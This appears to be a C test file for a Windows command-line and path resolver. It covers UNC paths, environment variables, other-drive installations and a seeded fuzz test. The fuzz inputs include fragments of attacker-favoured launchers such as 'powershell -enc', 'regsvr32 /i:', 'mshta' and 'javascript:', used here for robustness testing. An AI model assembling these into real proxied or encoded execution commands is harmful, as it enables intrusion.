		{ "\\??\\UNC\\server\\share", 0, NULL, CMD_F_NOT_LOCAL },
		{ "%NOSUCH%\\etc", 0, NULL, CMD_F_UNRESOLVED_VAR },
		{ "drivers\\etc", 0, NULL, 0 },
		{ "", 0, NULL, 0 },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(pcases) / sizeof(pcases[0]); i++) {
		char *img = (char *)"untouched";
		unsigned flags = 0xFFFF;
		int rc = cmd_resolve_path(pcases[i].path, env_default, sizeof(env_default) / sizeof(env_default[0]),
					  &img, &flags);

		if (rc != pcases[i].rc || flags != pcases[i].flags ||
		    (pcases[i].img ? !img || strcmp(img, pcases[i].img) : img != NULL))
			fail_msg("'%s': rc %d, img '%s', flags %#x; expected %d, '%s', %#x", pcases[i].path, rc,
				 img ? img : "(null)", flags, pcases[i].rc, pcases[i].img ? pcases[i].img : "(null)",
				 pcases[i].flags);
		free(img);
	}
	/* Another installation's drive: its C: is not this volume. */
	char *img = NULL;
	assert_int_equal(cmd_resolve_path("C:\\WINDOWS", env_d_drive, 2, &img, NULL), 0);
	assert_null(img);
	assert_int_equal(cmd_resolve_path("%SystemRoot%\\system32", env_d_drive, 2, &img, NULL), 1);
	assert_string_equal(img, "/WINDOWS/system32");
	free(img);
	assert_int_equal(cmd_resolve_path(NULL, NULL, 0, &img, NULL), 0);
	assert_null(img);
}

static uint32_t rng_state;

static uint32_t rng(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 17;
	rng_state ^= rng_state << 5;
	return rng_state;
}

static void test_fuzz(void **state)
{
	static const char *const pieces[] = {
		"cmd /c ", "powershell -enc ", "-e ", "rundll32 ", "regsvr32 /i:", "mshta ",
		"wscript //b ", "start ", "\"", "\"\"", "\\", "\\\\", "C:\\", "D:", "%SystemRoot%",
		"%", "\\??\\", "\\SystemRoot\\", "system32\\", " ", "..\\", ",", "&", "^", "=",
		"javascript:", "http://", "Program Files", ".exe", "山田", "\xe2\x80\x93", "-File ",
		"-Command ", "pwsh ", "/s ", "'", "\t",
	};
	struct image im = { 0 };
	char buf[512];

	(void)state;
	rng_state = 0x6b656e73u; /* fixed seed: failures reproduce */
	for (int iter = 0; iter < 30000; iter++) {
		size_t n = 0, want = rng() % 200;
		struct cmd_resolution r;
		int rc;

		while (n < want && n + 32 < sizeof(buf)) {
			if (rng() % 3 == 0) {
				const char *p = pieces[rng() % (sizeof(pieces) / sizeof(pieces[0]))];
				size_t l = strlen(p);

				memcpy(buf + n, p, l);
				n += l;
			} else {
				buf[n++] = (char)(0x20 + rng() % 95);
			}
		}
		buf[n] = '\0';
		im.probes = 0;
		rc = resolve_default(buf, &im, &r);
		if (rc == 0) {
			assert_non_null(r.expanded);
			assert_non_null(r.arguments);
			if (r.image_path)
				assert_true(r.image_path[0] == '/');
			if (r.payload_path)
				assert_true(r.payload_path[0] == '/');
		} else {
			assert_int_equal(rc, -1);
			assert_null(r.expanded);
		}
		assert_int_equal(im.bad, 0);
		assert_true(im.probes <= CMD_MAX_PROBES);
		cmd_resolution_release(&r);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_expanded_and_env),
		cmocka_unit_test(test_inner),
		cmocka_unit_test(test_depth),
		cmocka_unit_test(test_long_input),
		cmocka_unit_test(test_encoded_roundtrip),
		cmocka_unit_test(test_resolve_path),
		cmocka_unit_test(test_fuzz),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
